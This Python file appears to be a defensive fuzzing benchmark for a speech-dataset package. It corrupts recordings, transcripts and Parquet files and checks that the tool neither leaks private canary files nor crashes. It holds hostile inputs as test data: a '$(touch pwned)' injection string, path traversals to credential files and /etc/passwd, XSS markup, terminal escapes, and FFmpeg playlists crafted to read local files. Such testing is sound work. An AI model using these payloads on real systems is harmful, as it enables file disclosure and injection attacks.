"""Gives every kind of document that the package reads a hostile form, and watches what comes of it.

Each case is a folder of its own: a valid recording, row or file, a hostile one beside it, and next to the input a
folder of private files that nothing may open. The command runs in a child forked from a process that has loaded
everything, so that a case costs a fraction of a second. Watched are: what is opened (Python's audit hook for every
path, inotify on the private files for compiled libraries, and strace for a sample of whole processes),
tracebacks, exit codes, ids that neither come out nor are rejected with a reason, control characters on the
terminal, markup in pages, memory and time. The child that goes past a limit is ended.

Goals: nothing opened outside of the input, the output, the cache and the installed programs; no traceback; no row
lost; no byte changed by a command that reads; 60 s and 1.5 GB above the baseline at most for a case.

    python benchmarks/hostile.py [--count 2000] [--seed 0] [--kind srt --kind vtt] [--jobs 2]   # some ten minutes
    python benchmarks/hostile.py --repeat FOLDER/vtt-0017/case.json                             # one of them again
    python benchmarks/hostile.py --kind "folder of edits" --kind "folder of plans" --count 300  # of a stranger
"""

import argparse
import contextlib
import copy
import ctypes
import faulthandler
import gzip
import io
import json
import os
import random
import re
import resource
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import traceback
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import asdict, dataclass, field
from functools import cache, partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

# A forked child has none of the threads of its parent, so no library may start any before.
for variable in ("OMP_NUM_THREADS", "OPENBLAS_NUM_THREADS", "ARROW_DEFAULT_MEMORY_POOL"):
    os.environ[variable] = "system" if variable.startswith("ARROW") else "1"

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "benchmarks"))
from short_talks import short_talks  # noqa: E402

# benchmarks/publish.py would hide the folder tests/publish.
sys.path[:] = [str(ROOT / "tests"), *(path for path in sys.path if path != str(ROOT / "benchmarks"))]

import numpy as np  # noqa: E402
import pyarrow as pa  # noqa: E402
import pyarrow.parquet as pq  # noqa: E402
import pytest  # noqa: E402
import soundfile  # noqa: E402
from audio_files import encode, tones, wav_bytes  # noqa: E402
from built_conversations import built_row, write_dataset  # noqa: E402
from corpus_trees import POINTER, put, table, zipped  # noqa: E402
from finished_corpora import clip_row, corpus_folder  # noqa: E402
from hub import hub_fixtures  # noqa: E402
from hub.server import HubServer  # noqa: E402
from huggingface_hub import CommitOperationAdd, HfApi  # noqa: E402
from publish.published_folder import write_published  # noqa: E402
from scripted import SHORT  # noqa: E402
from scripted import folder as tagged_folder  # noqa: E402
from spoken_corpora import dailytalk_files, spoken  # noqa: E402

from dailytalk_contiguous import load  # noqa: E402
from dailytalk_contiguous.apps.review.session import Session  # noqa: E402
from dailytalk_contiguous.cli.main import run_command  # noqa: E402
from dailytalk_contiguous.cli.terminal import Console, say  # noqa: E402
from dailytalk_contiguous.core.errors import DailytalkError  # noqa: E402
from dailytalk_contiguous.core.retries import Backoff  # noqa: E402
from dailytalk_contiguous.core.schema import BUILT  # noqa: E402
from dailytalk_contiguous.models import paid  # noqa: E402
from dailytalk_contiguous.publish.exports import export_moshi  # noqa: E402
from dailytalk_contiguous.publish.items import open_items  # noqa: E402
from dailytalk_contiguous.publish.listening import key_path, write_listening_test  # noqa: E402
from dailytalk_contiguous.sources.editable import open_editable, settle  # noqa: E402
from dailytalk_contiguous.sources.reindexing import finish_reindex  # noqa: E402

#: Seconds and bytes above the baseline that a case may take.
MOST_SECONDS, MOST_BYTES = 60.0, 1_500_000_000

#: Exit codes that a command may end with: done, nothing done (with a sentence), done with rejects.
CODES = {0, 1, 3}

#: What runs without models that are downloaded.
EMBEDDED = ("--profile", "embedded", "--language", "en")

#: Bytes that a bomb unpacks to, more than a case may hold.
BOMB_BYTES = 2 << 30

#: What the private files hold, and nothing else.
SECRET = "canary-7f3a9c51d2"

#: An address where nobody answers.
NOWHERE = "http://127.0.0.1:9"

#: The dataset of a case on its Hub.
CALLS = "tester/calls"

#: Programs that a command may start.
PROGRAMS = {os.path.basename(sys.executable), "espeak-ng", "espeak", "flite", "uname", "ldconfig", "gcc", "ld",
            "lscpu", "fc-list"}  # fmt: skip

#: Places of the machine that hold programs and no data of anybody.
_SYSTEM = ("/usr", "/lib", "/lib64", "/bin", "/etc", "/proc", "/sys", "/dev/null", "/dev/urandom", "/dev/shm")

MARKUP = "<img src=x onerror=\"document.title='owned'\">"
ESCAPE = "\x1b]0;owned\x07\x1b[31m"

_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")
_TRACEBACK = re.compile(r"^(Traceback \(most recent call last\)|Exception ignored in|Fatal Python error)", re.M)

Row = dict[str, Any]


# Hostile values


class Raw(str):
    """Text that goes into JSON as it is, where no Python value could be written."""


#: Numbers as JSON may hold them, beyond what anybody means.
NUMBERS: tuple[Any, ...] = (
    float("nan"), float("inf"), float("-inf"), -1, 0, -0.0, 1e308, -1e308, 5e-324, 1e9, 2**31, 2**63, 2**64,
    10**400, Raw("9" * 5000), Raw("-" + "9" * 5000), Raw("1e400"), Raw("1E-400"), True, False,
)  # fmt: skip

#: Values of the wrong type.
WRONG: tuple[Any, ...] = (None, True, 0, 1.5, "", "12", [], {}, [[]], {"a": None}, [None], [1, "a"])

#: Containers that exhaust a parser or a reader.
BULK: tuple[Any, ...] = (
    Raw("[" * 100_000 + "]" * 100_000),
    Raw("[" * 100_000),
    Raw('{"a":' * 100_000 + "1" + "}" * 100_000),
    Raw("[" * 900 + "]" * 900),
    Raw("[" + "0," * 200_000 + "0]"),
)


def texts(private: Path) -> list[str]:
    """Texts that break out of where they are shown or written, or that name the private files."""
    return [
        "", " ", "\n", ESCAPE, f"Hello {ESCAPE} you", MARKUP, f"</script><script>{SECRET[:6]}()</script>",
        "\ud800",
        "ab\udfffcd", "a\0b", "\x7f\x9b31m", "\u202egnp.exe", "\u2028line", "A" * 250, "A" * 1_000_000, "日" * 84,
        "-rf", "[bold red]x[/]", "{0}{x!r}%s%n", "a\r\nb", "..", ".", "/", "~", "$(touch pwned)", "🙂" * 60,
        "../../private/private.wav", "../private/credentials.json", str(private / "private.wav"),
        str(private / "credentials.json"), f"file://{private}/private.wav", "/dev/zero", "/etc/passwd", "nan",
        "../pwned", "/pwned", "a/../../pwned", "e\u0301" * 300, "=1+1", "\ufeff", "C:\\x", "http://127.0.0.1:9/x",
    ]  # fmt: skip


def text_of(rng: random.Random, private: Path) -> str:
    """A hostile text; half of them are of the few that do most harm."""
    worst = ("\ud800", f"Hello {ESCAPE} you", MARKUP, "A" * 250, "日" * 84, "a\0b")
    paths = (str(private / "private.wav"), "../../private/private.wav", str(private / "credentials.json"))
    return rng.choice((rng.choice(worst), rng.choice((*worst, *paths)), *rng.sample(texts(private), 2)))


def value(rng: random.Random, private: Path, before: Any = None) -> Any:
    """A hostile value for a place in JSON, half of the time of the type that was there `before`."""
    if rng.random() < 0.5 and isinstance(before, str):
        return text_of(rng, private)
    if rng.random() < 0.5 and isinstance(before, int | float):
        return rng.choice(NUMBERS)
    return rng.choice((text_of(rng, private), rng.choice(NUMBERS), rng.choice(WRONG), rng.choice(BULK)))


def as_json(data: Any) -> bytes:
    """JSON of data that may hold `Raw` text; lone surrogates are escaped, as truncating programs write them."""
    raw: list[str] = []

    def marked(node: Any) -> Any:
        if isinstance(node, Raw):
            raw.append(node)
            return f"\ue000{len(raw) - 1}\ue001"
        if isinstance(node, dict):
            return {key: marked(item) for key, item in node.items()}
        return [marked(item) for item in node] if isinstance(node, list | tuple) else node

    limit = sys.get_int_max_str_digits()
    sys.set_int_max_str_digits(0)
    text = json.dumps(marked(data))
    sys.set_int_max_str_digits(limit)
    for number, part in enumerate(raw):
        text = text.replace(f'"\\ue000{number}\\ue001"', part)
    return text.encode()


def short(thing: Any) -> str:
    """A hostile value in the words of a note."""
    shown = ascii(thing) if not isinstance(thing, Raw) else f"raw {thing}"
    return shown if len(shown) <= 60 else f"{shown[:50]}… ({len(shown)} characters)"


def spoil_tree(rng: random.Random, data: Any, private: Path) -> tuple[Any, str]:
    """A copy of nested data in which one node, drawn evenly, is replaced, renamed, repeated or gone."""
    data = copy.deepcopy(data)
    places: list[tuple[Any, Any, str]] = []

    def walk(node: Any, path: str) -> None:
        if isinstance(node, dict | list):
            for key, item in list(node.items() if isinstance(node, dict) else enumerate(node)):
                places.append((node, key, f"{path}/{key}"))
                walk(item, f"{path}/{key}")

    walk(data, "")
    if not places or rng.random() < 0.06:
        spoiled = value(rng, private)
        return spoiled, f"all is {short(spoiled)}"
    # Leaves are what documents are made of; layers around them are wrong in fewer ways.
    weights = [1 if isinstance(parent[key], dict | list) else 3 for parent, key, _ in places]
    parent, key, path = rng.choices(places, weights)[0]
    action = rng.choices(("replace", "delete", "rename", "repeat", "wrap"), (12, 2, 1, 1, 1))[0]
    if action == "replace":
        parent[key] = value(rng, private, parent[key])
        return data, f"{path} is {short(parent[key])}"
    if action == "delete":
        del parent[key]
    elif action == "rename" and isinstance(parent, dict):
        parent[rng.choice(["", "\ud800", MARKUP, ESCAPE, "../private/credentials.json"])] = parent.pop(key)
    elif action == "repeat" and isinstance(parent, list):
        parent[key:key] = [parent[key]] * rng.choice((2, 300))
    else:
        parent[key] = [parent[key]]
    return data, f"{path}: {action}"


def spoil_bytes(rng: random.Random, data: bytes) -> tuple[bytes, str]:
    """Damage as disks, networks and fuzzers do it."""
    action = rng.choice(
        ("flip", "flip", "flip", "cut", "cut", "zero", "insert", "repeat", "empty", "noise", "shift")
    )
    spoiled = bytearray(data)
    size = max(1, len(data))
    match action:
        case "flip":
            # Half of them in the header, where a bit decides most.
            for _ in range(rng.choice((1, 1, 4, 32))):
                place = rng.randrange(min(size, 128)) if rng.random() < 0.5 else rng.randrange(size)
                if spoiled:
                    spoiled[place] ^= 1 << rng.randrange(8)
        case "cut":
            spoiled = spoiled[: rng.randrange(size)]
        case "zero":
            start = rng.randrange(size)
            spoiled[start : start + 64] = bytes(len(spoiled[start : start + 64]))
        case "insert":
            place = rng.randrange(size)
            spoiled[place:place] = rng.randbytes(rng.choice((1, 16, 4096)))
        case "repeat":
            spoiled = spoiled * 2
        case "empty":
            spoiled = bytearray()
        case "noise":
            spoiled = bytearray(rng.randbytes(rng.choice((3, 64, 8192))))
        case "shift":
            spoiled = spoiled[1:]
    return bytes(spoiled), action


def spoil_text(rng: random.Random, text: str, private: Path) -> tuple[bytes, str]:
    """Damage to a document of lines: numbers, times, lines and fields that are hostile, or another encoding."""
    lines = text.split("\n")
    action = rng.choice(("number", "number", "number", "text", "text", "line", "drop", "swap", "encode", "long"))
    numbers = list(re.finditer(r"\d+(?:[.,:]\d+)*", text))
    match action:
        case "number" if numbers:
            place = rng.choice(numbers)
            new = rng.choice(
                ["-1", "nan", "inf", "9" * 5000, "1e308", "99:99:99,999", "", "0", "0.0", "4294967296", "٣", "1e5"]
            )
            text = text[: place.start()] + new + text[place.end() :]
            return _encoded(text), f"the number {place.group()} is {short(new)}"
        case "text" | "line":
            new = text_of(rng, private)
            row = rng.randrange(len(lines))
            lines[row] = new if action == "line" else lines[row] + new
            return _encoded("\n".join(lines)), f"line {row + 1}: {short(new)}"
        case "drop":
            del lines[rng.randrange(len(lines))]
        case "swap":
            first, second = rng.randrange(len(lines)), rng.randrange(len(lines))
            lines[first], lines[second] = lines[second], lines[first]
        case "encode":
            encoding = rng.choice(("utf-16", "utf-16-be", "utf-32", "cp1252", "cp037", "utf-7"))
            return text.encode(encoding, "replace"), f"in {encoding}"
        case "long":
            part = rng.choice(("<v", "<v ", "<", "(", "A: ", "0,", '"', " ", "&lt;", "\t", "<v.a", "[", "{\\i1}"))
            row = rng.randrange(len(lines))
            part = "<v " if "WEBVTT" in text and rng.random() < 0.5 else part
            lines[row] += part + rng.choice((" ", part)) * rng.choice((30_000, 120_000))
            return _encoded("\n".join(lines)), f"line {row + 1} repeats {part!r}"
    return _encoded("\n".join(lines)), action


def _encoded(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


def spoil_place(rng: random.Random, path: Path, private: Path, suffix: str = "") -> str:
    """Put no regular file at `path`, or one of another kind. `suffix`: of the private file that links lead to."""
    path.unlink(missing_ok=True)
    target = private / {".wav": "private.wav", ".json": "credentials.json"}.get(suffix, "private.txt")
    actions: dict[str, Callable[[], Any]] = {
        "a pipe": lambda: os.mkfifo(path),
        "a link to a private file": lambda: path.symlink_to(target),
        "a relative link to a private file": lambda: path.symlink_to(os.path.relpath(target, path.parent)),
        "a link to nothing": lambda: path.symlink_to(path.with_name("nothing")),
        "a link to itself": lambda: path.symlink_to(path.name),
        "a link to /dev/zero": lambda: path.symlink_to("/dev/zero"),
        "a folder": path.mkdir,
        "a link to a private folder": lambda: path.symlink_to(private),
        "a socket": lambda: socket.socket(socket.AF_UNIX).bind(os.path.relpath(path)),
        "a Git LFS pointer": lambda: path.write_bytes(POINTER),
        "a page of HTML": lambda: path.write_text("<!DOCTYPE html><html><body>404 Not Found</body></html>"),
        "2 GB of zeros": lambda: _sparse(path),
    }
    name = rng.choice(list(actions))
    actions[name]()
    return name


def _sparse(path: Path) -> None:
    with path.open("wb") as file:
        file.truncate(BOMB_BYTES)


# A case


@dataclass
class Job:
    """What a case runs, and what has to come of it.

    Attributes:
        commands: arguments of `dailytalk`; a callable runs as it is.
        good: ids that must come out. hostile: how many others have to come out or be rejected; None: any number.
        note: what was done to the document.
        whole: the document stands for all rows, so that a refusal with one sentence loses none.
        shown: texts of which each has to occur in the output of the command.
        around: what has to run meanwhile, such as a server.
        ids: ids in the output folder; that of `outputs` if None.
    """

    commands: list[Any]
    good: Sequence[str] = ()
    hostile: int | None = None
    note: str = ""
    whole: bool = False
    shown: Sequence[str] = ()
    around: Callable[[], Any] = contextlib.nullcontext
    ids: Callable[[Path], tuple[set[str], set[str]]] | None = None


@dataclass
class Stage:
    """Where a case is set up: `home` holds `in`, `out` and `private`; `rng` draws what is done."""

    rng: random.Random
    home: Path
    stock: Path

    @property
    def source(self) -> Path:
        """The input."""
        return self.home / "in"

    @property
    def out(self) -> Path:
        """The output."""
        return self.home / "out"

    @property
    def private(self) -> Path:
        """What must stay unread."""
        return self.home / "private"

    def take(self, name: str, to: Path | None = None) -> Path:
        """A copy of a folder of the stock, as the input unless said otherwise."""
        return shutil.copytree(self.stock / name, to or self.source, dirs_exist_ok=True, symlinks=True)

    def spoil(self, path: Path, data: Any = None, lines: bool = False, places: float = 0.12) -> str:
        """Make a document hostile in one of the ways that its medium has; what was done.

        Args:
            path: the document, valid until now.
            data: what it holds, if it is JSON. lines: it is JSON Lines, and `data` a list.
            places: how often the file itself is something else (a pipe, a link, a folder).
        """
        drawn = self.rng.random()
        if drawn < places:
            return spoil_place(self.rng, path, self.private, path.suffix)
        if drawn < places + 0.12:
            spoiled, note = spoil_bytes(self.rng, path.read_bytes())
        elif data is None:
            spoiled, note = spoil_text(self.rng, path.read_text(encoding="utf-8"), self.private)
        elif lines:
            row = self.rng.randrange(len(data))
            item, note = spoil_tree(self.rng, data[row], self.private)
            parts = [as_json(item if place == row else line) for place, line in enumerate(data)]
            spoiled, note = b"\n".join(parts) + b"\n", f"line {row + 1}: {note}"
        else:
            item, note = spoil_tree(self.rng, data, self.private)
            spoiled = as_json(item)
        path.write_bytes(spoiled)
        return note


def tag(stage: Stage, *options: str) -> list[list[str]]:
    """The command that tags the input, sometimes twice: a bad file must not stop the second run either."""
    command = ["tag", str(stage.source), "--out", str(stage.out), *EMBEDDED, *options]
    return [command] * (2 if stage.rng.random() < 0.1 else 1)


# Recordings


def _audio(stage: Stage, suffix: str) -> Path:
    """A good call, and the recording to be spoilt as `bad` beside it, both with their transcripts."""
    stage.take("calls")
    source = stage.stock / "formats" / f"call{suffix}"
    path = stage.source / f"bad{suffix}"
    shutil.copyfile(source, path)
    shutil.copyfile(stage.stock / "calls" / "good.json", stage.source / "bad.json")
    return path


def playlists(private: Path) -> dict[str, bytes]:
    """Texts that make FFmpeg's libraries open another file."""
    wav, far = private / "private.wav", "http://127.0.0.1:9/x.wav"
    return {
        "m3u8": f"#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\nfile://{private}/private.mp3\n#EXT-X-ENDLIST\n".encode(),
        "m3u8 of a WAV": f"#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n{wav}\n#EXT-X-ENDLIST\n".encode(),
        "m3u8 far away": f"#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n{far}\n#EXT-X-ENDLIST\n".encode(),
        "m3u8 with a key": (
            f'#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXT-X-KEY:METHOD=AES-128,URI="file://{private}/private.txt"\n'
            f"#EXTINF:5,\nfile://{private}/private.mp3\n#EXT-X-ENDLIST\n"
        ).encode(),
        "concat": f"ffconcat version 1.0\nfile '{wav}'\n".encode(),
        "concat, relative": b"ffconcat version 1.0\nfile '../private/private.wav'\n",
        "pls": f"[playlist]\nFile1={wav}\nNumberOfEntries=1\n".encode(),
        "sdp": b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n",
        "dash": (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
            'mediaPresentationDuration="PT5S"><Period><AdaptationSet mimeType="audio/wav"><Representation id="1" '
            f'bandwidth="1"><BaseURL>file://{wav}</BaseURL></Representation></AdaptationSet></Period></MPD>'
        ).encode(),
        "subfile": f"#EXTM3U\n#EXTINF:5,\nsubfile,,start,0,end,0,,:{wav}\n#EXT-X-ENDLIST\n".encode(),
        "ass": b"[Script Info]\nScriptType: v4.00+\n[Events]\nDialogue: 0,0:00:00,9:59:59,Default,,0,0,0,,x\n",
    }  # fmt: skip


def wav_headers(rng: random.Random) -> bytes:
    """A WAV whose header lies in one field."""
    good = bytearray(wav_bytes(tones(0.5, 16000, 2), 16000))
    place, form = rng.choice([(4, "<I"), (16, "<I"), (20, "<H"), (22, "<H"), (24, "<I"), (28, "<I"), (32, "<H"),
                              (34, "<H"), (40, "<I")])  # fmt: skip
    most = 0xFFFF if form == "<H" else 0xFFFFFFFF
    struct.pack_into(form, good, place, rng.choice((0, 1, 3, 255, most, most - 1, most // 2, 65534 & most)))
    return bytes(good)


def float_wav(rng: random.Random) -> bytes:
    """A WAV of floats, some of which are no numbers."""
    samples = np.asarray(tones(1.0, 16000, 2), np.float32).copy()
    samples[rng.randrange(8000) :: rng.choice((1, 7, 5000))] = rng.choice((np.nan, np.inf, -np.inf, 1e38, 1e-40))
    return wav_bytes(samples, 16000, "FLOAT")


def recording(stage: Stage, suffix: str) -> Job:
    """A damaged recording beside a good one."""
    path, rng = _audio(stage, suffix), stage.rng
    drawn = rng.random()
    if drawn < 0.2:
        note, data = rng.choice(list(playlists(stage.private).items()))
        path.write_bytes(data)
    elif drawn < 0.3:
        note = spoil_place(rng, path, stage.private, ".wav")
    elif drawn < 0.45 and suffix == ".wav":
        note = "a header that lies"
        path.write_bytes(wav_headers(rng))
    elif drawn < 0.55 and suffix == ".wav":
        note = "floats"
        path.write_bytes(float_wav(rng))
    elif drawn < 0.6:
        note = "another format"
        shutil.copyfile(rng.choice(sorted((stage.stock / "formats").iterdir())), path)
    else:
        data, note = spoil_bytes(rng, path.read_bytes())
        path.write_bytes(data)
    in_folder = 0 if note in ("a folder",) else None if note == "a link to a private folder" else 1
    return Job(tag(stage, "--channel", rng.choice(("both", "mix"))), ["good"], in_folder, note)


def names(stage: Stage) -> Job:
    """Recordings under names, and in folders, that break what is built from them."""
    stage.take("calls")
    rng, call = stage.rng, stage.stock / "calls" / "good.wav"
    shown: list[str] = []
    name = rng.choice(
        [
            *(
                "日" * 84,
                "A" * 250,
                "a\nb",
                f"x{ESCAPE}",
                MARKUP.replace("/", ""),
                "-rf",
                "$(touch pwned)",
                "a:b",
                "a b ",
            ),
            *(
                ".hidden",
                "..x",
                "%2e%2e",
                "\udcff\udcfe",
                "[red]",
                "CON",
                "x.000",
                "good.000",
                "transcript",
                "e\u0301",
            ),
        ]
    )
    where = rng.choice(("file", "folder", "speak", "speak", "linked folder"))
    if rng.random() < 0.3:
        name = rng.choice(("日" * 84, "日" * 76, "A" * 250, "A" * 235))
    note = f"{where} called {short(name)}"
    if where == "linked folder":
        (stage.source / "link").symlink_to(
            rng.choice((stage.private, Path("."), Path("..", "private"), Path("/dev")))
        )
        return Job(tag(stage), ["good"], None, f"a link to {os.readlink(stage.source / 'link')}")
    parent = stage.source / name if where == "folder" else stage.source
    path = parent / (
        "call.wav" if where == "folder" else f"{name}.wav"[-254:] if name.isascii() else f"{name[:83]}.wav"
    )
    parent.mkdir(exist_ok=True)
    shutil.copyfile(call, path)
    with contextlib.suppress(OSError):
        shutil.copyfile(call.with_suffix(".json"), path.with_suffix(".json"))
    if name.startswith("."):
        shown = [name.strip(".")]
    commands = [tag(stage)[0]]
    if where != "file":
        commands.append(["speak", str(stage.out), "--profile", "embedded", "--tts", "espeak"])
    # Ids are counted by the names in them, which one of these names has in common with the valid recording.
    hostile = None if "good" in name else 0 if name.startswith(".") else 1
    return Job(commands, ["good"], hostile, note, shown=shown)


# Transcripts beside recordings

ALIGNMENTS = [
    ["Good", [0.4, 0.7], "SPEAKER_01"],
    ["morning.", [0.8, 1.3], "SPEAKER_01"],
    ["Hello", [1.6, 1.9], "SPEAKER_MAIN"],
]
J_MOSHI = [
    {"speaker": "AB"[i % 2], "word": f"word{i}", "start": 0.4 * i + 0.3, "end": 0.4 * i + 0.6} for i in range(4)
]
SRT = (
    "1\n00:00:00,400 --> 00:00:01,500\nA: Good morning.\n\n"
    "2\n00:00:01,600 --> 00:00:02,500\nB: Hello, can you help?\n"
)
VTT = (
    "WEBVTT\n\nNOTE made by hand\n\nSTYLE\n::cue { color: red }\n\n"
    "1\n00:00.400 --> 00:01.500 align:start\n<v Ann>Good <b>morning</b>.\n\n"
    "2\n00:01.600 --> 00:02.500\n<v.loud Bob>Hello, can you help?\n"
)
_TIER = (
    'item [{n}]:\n        class = "IntervalTier"\n        name = "{name}"\n        xmin = 0\n        xmax = 3\n'
    "        intervals: size = 1\n        intervals [1]:\n            xmin = 0\n            xmax = 3\n"
    '            text = "Good morning."\n'
)
TEXTGRID = (
    'File type = "ooTextFile"\nObject class = "TextGrid"\n\nxmin = 0\nxmax = 3\ntiers? <exists>\nsize = 2\n'
    "item []:\n    " + _TIER.format(n=1, name="A") + "    " + _TIER.format(n=2, name="B")
)  # fmt: skip


def transcript(stage: Stage, suffix: str, data: Any = None, text: str = "", lines: bool = False) -> Job:
    """A transcript of one of the formats beside a recording."""
    stage.take("calls")
    shutil.copyfile(stage.source / "good.wav", stage.source / "bad.wav")
    path = stage.source / f"bad{suffix}"
    path.write_bytes(text.encode() if text else b"\n".join(map(as_json, data)) if lines else as_json(data))
    return Job(tag(stage), ["good"], 1, stage.spoil(path, data, lines))


def run_transcript(stage: Stage) -> Job:
    """A run's transcript.jsonl beside two recordings."""
    stage.take("calls")
    data = json.loads((stage.source / "good.json").read_text())["utterances"]
    shutil.copyfile(stage.source / "good.wav", stage.source / "bad.wav")
    lines = [{"audio_file": "bad.wav", "tag": "calm", **line} for line in data]
    path = stage.source / "transcript.jsonl"
    path.write_bytes(b"\n".join(map(as_json, lines)))
    stage.source.joinpath("good.json").unlink()
    for line in data:
        lines.append({"audio_file": "good.wav", "tag": "calm", **line})
    note = stage.spoil(path, lines, lines=True)
    # A run's transcript that can't be read says nothing of either recording.
    return Job(tag(stage), [], 2, note)


# Speaking


def speak(stage: Stage, *options: str) -> list[list[str]]:
    """The command that speaks the work folder."""
    command = [
        "speak",
        str(stage.source),
        "--out",
        str(stage.out),
        "--profile",
        "embedded",
        "--tts",
        "espeak",
        *options,
    ]
    return [command] * (2 if stage.rng.random() < 0.1 else 1)


def _lines(path: Path) -> list[Any]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def script(stage: Stage) -> Job:
    """transcript.jsonl for `speak` with a hostile line of one of two conversations."""
    work = stage.take("tagged")
    path = work / "transcript.jsonl"
    lines = sorted(_lines(path), key=lambda line: line["conversation_id"] == "good")
    rng = stage.rng
    if rng.random() < 0.08:
        return Job(speak(stage), [], None, stage.spoil(path, lines, lines=True, places=1), whole=True)
    row = rng.randrange(4)
    item, note = spoil_tree(rng, lines[row], stage.private)
    path.write_bytes(b"\n".join(as_json(item if place == row else line) for place, line in enumerate(lines)))
    # Without a conversation_id it may be a line of a recording that is not there; more rejects are no loss. A line
    # of the good conversation may hold that back, with its reason.
    return Job(speak(stage), ["good"], 1, note, whole=lines[row]["conversation_id"] == "good")


def tagged_shard(stage: Stage) -> Job:
    """A shard of `tagged/` with a hostile row, or damaged as a file."""
    work = stage.take("tagged")
    path = next((work / "tagged").glob("*.parquet"))
    if stage.rng.random() < 0.25:
        return Job(speak(stage), [], None, _damage(stage, path), whole=True)
    note = spoil_parquet(stage, path, "bad")
    return Job(speak(stage), ["good"], None, note, whole=note.startswith("the column "))


def _damage(stage: Stage, path: Path) -> str:
    """Damage to a file of bytes, or something else in its place."""
    if stage.rng.random() < 0.3:
        return spoil_place(stage.rng, path, stage.private)
    data, note = spoil_bytes(stage.rng, path.read_bytes())
    path.write_bytes(data)
    return note


def spoil_parquet(stage: Stage, path: Path, name: str, key: str = "conversation_id") -> str:
    """Make one row of a Parquet file hostile, within the types of its columns; what was done.

    One in eight changes the type of a column or drops it, for all rows.
    """
    rng = stage.rng
    file = pq.read_table(path)
    rows = file.to_pylist()
    metadata = file.schema.metadata
    place = next((n for n, row in enumerate(rows) if row[key] == name), 0)
    column = rng.choice(file.column_names)
    if rng.random() < 0.12:
        kind = rng.choice(("drop", "text", "number", "nulls"))
        index = file.column_names.index(column)
        file = file.drop_columns([column])
        if kind != "drop":
            values: Any = {"text": ["x"] * len(rows), "number": [1] * len(rows), "nulls": [None] * len(rows)}[kind]
            file = file.add_column(index, column, pa.array(values))
        pq.write_table(file.replace_schema_metadata(metadata), path, row_group_size=1)
        return f"the column {column}: {kind}"
    audio = next((field_.name for field_ in file.schema if "bytes" in str(field_.type)), None)
    if audio and rng.random() < 0.35:
        column = audio
    before = rows[place][column]
    note = ""
    for _ in range(20):
        rows[place][column], note = _typed(rng, file.schema.field(column).type, before, stage)
        try:
            made = pa.Table.from_pylist(rows, schema=file.schema)
            break
        except (pa.ArrowException, UnicodeError, OverflowError, TypeError, ValueError):
            continue
    else:
        rows[place][column], note, made = None, "null", pa.Table.from_pylist(rows, schema=file.schema)
    pq.write_table(made, path, row_group_size=1)
    return f"{column}: {note}"


def _typed(rng: random.Random, kind: Any, before: Any, stage: Stage) -> tuple[Any, str]:
    """A hostile value of an Arrow type: of the whole, or of one node inside it."""
    if rng.random() < 0.1:
        return None, "null"
    if pa.types.is_struct(kind):
        names = [kind.field(n).name for n in range(kind.num_fields)]
        if set(names) == {"bytes", "path"}:
            return _sound(rng, before, stage)
        before = before or dict.fromkeys(names)
        name = rng.choice(names)
        inner, note = _typed(rng, kind.field(name).type, before.get(name), stage)
        return before | {name: inner}, f"{name}/{note}"
    if pa.types.is_list(kind) or pa.types.is_large_list(kind):
        items = list(before or [])
        if not items or rng.random() < 0.15:
            return rng.choice(([], items * 3000, [None] * 3, items[::-1])), "another list"
        place = rng.randrange(len(items))
        items[place], note = _typed(rng, kind.value_type, items[place], stage)
        return items, f"{place}/{note}"
    if pa.types.is_floating(kind):
        new: Any = rng.choice((float("nan"), float("inf"), float("-inf"), -1.0, 0.0, 1e308, 1e9, 5e-324, 1e6))
    elif pa.types.is_integer(kind):
        new = rng.choice((0, -1, 1, 2**31 - 1, -(2**31), 3, 2**15))
    elif pa.types.is_boolean(kind):
        new = None
    elif pa.types.is_binary(kind) or pa.types.is_large_binary(kind):
        new = rng.randbytes(9)
    else:
        new = text_of(rng, stage.private)
    return new, short(new)


def _sound(rng: random.Random, before: Any, stage: Stage) -> tuple[Row, str]:
    """A hostile `{"bytes", "path"}`."""
    private = stage.private
    pipe = stage.source / "pipe.wav"
    pipe.exists() or os.mkfifo(pipe)
    path = rng.choice(
        (
            str(private / "private.wav"), f"file://{private}/private.wav", "../private/private.wav", str(pipe),
            "/dev/zero", str(private / "credentials.json"), "http://127.0.0.1:9/x.wav", "", None, "a\0b",
            str(private), f"zip://private.wav::{private}/private.zip", "hf://datasets/a/b/c.wav",
        )
    )  # fmt: skip
    data: bytes | None = rng.choice((None, None, None, b"", b"fLaC", wav_headers(rng), float_wav(rng)))
    if data is None and rng.random() < 0.2:
        data = spoil_bytes(rng, (before or {}).get("bytes") or b"RIFF")[0]
    if rng.random() < 0.15:
        data = rng.choice(list(playlists(private).values()))
    return {"bytes": data, "path": path}, f"bytes {short(data)}, path {short(path)}"


def speech_cache(stage: Stage) -> Job:
    """A damaged entry of the cache of speech."""
    stage.take("tagged")
    cache_folder = stage.take("speech_cache", stage.home / "cache" / "speech")
    path = stage.rng.choice(sorted(p for p in cache_folder.rglob("*") if p.is_file()))
    data = json.loads(path.read_text()) if path.suffix == ".json" else None
    note = stage.spoil(path, data) if data else _damage(stage, path)
    return Job(speak(stage), [], None, note, whole=True)


# Work folders and datasets


def dataset(stage: Stage, command: str) -> Job:
    """A shard of finished conversations with a hostile row, or damaged, as another command reads it."""
    work = stage.take("dataset")
    path = work / "dataset" / "shard-0.parquet"
    if stage.rng.random() < 0.05:
        shutil.copyfile(stage.stock / "bomb.parquet", path)
        return _reading(stage, command, "a bomb", whole=True)
    whole = stage.rng.random() < 0.15
    note = _damage(stage, path) if whole else spoil_parquet(stage, path, "bad")
    return _reading(stage, command, note, whole)


def _reading(stage: Stage, command: str, note: str, whole: bool, good: Sequence[str] = ("good",)) -> Job:
